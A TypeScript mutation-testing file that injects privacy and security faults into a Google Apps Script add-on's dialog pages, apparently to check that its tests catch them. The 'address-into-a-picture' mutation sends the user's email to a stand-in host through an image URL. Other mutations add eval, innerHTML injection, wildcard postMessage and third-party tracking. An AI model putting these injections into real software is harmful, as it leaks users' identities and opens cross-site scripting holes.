import type { Edit, Mutation } from '../../mutation.ts'
import { googlePlaces } from '../places.ts'

const { usageCode: code, usageEditor: editor, usageWork: work } = googlePlaces
const title = '    <title>Diagram</title>\n'
const body = '  </body>\n'
/** All of them are forbidden by the page's own policy, which goes first. */
const withoutPolicy = (file: string): Edit => ({
  file,
  find: '      document.head.append(policy)\n',
  replace: '',
})
const script = (text: string) => `    <script>${text}</script>\n${body}`

/** Faults in the dialogs. */
export const googlePageMutations: readonly Mutation[] = [
  {
    name: 'script-from-a-cdn',
    claim: 'C4',
    edits: [
      withoutPolicy(editor),
      {
        file: editor,
        find: title,
        replace: `${title}    <script src="https://cdn.vendor.example/mermaid.js"></script>\n`,
      },
    ],
  },
  {
    name: 'style-from-a-cdn',
    claim: 'C4',
    edits: [
      withoutPolicy(work),
      {
        file: work,
        find: title,
        replace: `${title}    <link rel="stylesheet" href="https://cdn.vendor.example/page.css" />\n`,
      },
    ],
  },
  {
    name: 'font-from-a-cdn',
    claim: 'C4',
    edits: [
      withoutPolicy(work),
      {
        file: work,
        find: title,
        replace: `${title}    <style>@font-face{font-family:I;src:url(https://fonts.vendor.example/i.woff2)}</style>\n`,
      },
    ],
  },
  {
    name: 'picture-that-counts',
    claim: 'C4',
    edits: [
      withoutPolicy(editor),
      {
        file: editor,
        find: body,
        replace: `    <img src="https://count.vendor.example/opened.gif" alt="" />\n${body}`,
      },
    ],
  },
  {
    name: 'eval-in-the-page',
    claim: 'C11',
    edits: [
      withoutPolicy(editor),
      { file: editor, find: body, replace: script('eval(document.body.className)') },
    ],
  },
  {
    name: 'analytics-from-the-page',
    claim: 'C4',
    edits: [
      withoutPolicy(editor),
      {
        file: editor,
        find: body,
        replace: script("navigator.sendBeacon('https://region1.google-analytics.com/mp/collect', '{}')"),
      },
    ],
  },
  {
    name: 'address-into-a-picture',
    claim: 'C1',
    edits: [
      withoutPolicy(editor),
      {
        file: code,
        find: 'function usagePreview(...args) {\n',
        replace:
          'function whoIsIt() {\n  return Session.getActiveUser().getEmail()\n}\nfunction usagePreview(...args) {\n',
      },
      {
        file: editor,
        find: body,
        replace: script(
          "google.script.run.withSuccessHandler((who) => { new Image().src = 'https://count.vendor.example/?' + who }).whoIsIt()",
        ),
      },
    ],
  },
  {
    name: 'text-in-local-storage',
    claim: 'C8',
    edits: [
      withoutPolicy(editor),
      {
        file: editor,
        find: body,
        replace: script(
          "google.script.run.withSuccessHandler(([{ text }]) => localStorage.setItem('last', text)).getCodes()",
        ),
      },
    ],
  },
  {
    name: 'cookie',
    claim: 'C8',
    edits: [
      withoutPolicy(work),
      { file: work, find: body, replace: script("document.cookie = 'seen=1; max-age=86400'") },
    ],
  },
  {
    name: 'text-to-any-window',
    claim: 'C7',
    edits: [
      withoutPolicy(editor),
      {
        file: editor,
        find: body,
        replace: script(
          "google.script.run.withSuccessHandler(([{ text }]) => top.postMessage(text, '*')).getCodes()",
        ),
      },
    ],
  },
  {
    name: 'text-as-markup',
    claim: 'C11',
    edits: [
      withoutPolicy(editor),
      {
        file: editor,
        find: body,
        replace: script(
          'google.script.run.withSuccessHandler(([{ text }]) => { document.body.innerHTML = text }).getCodes()',
        ),
      },
    ],
  },
]
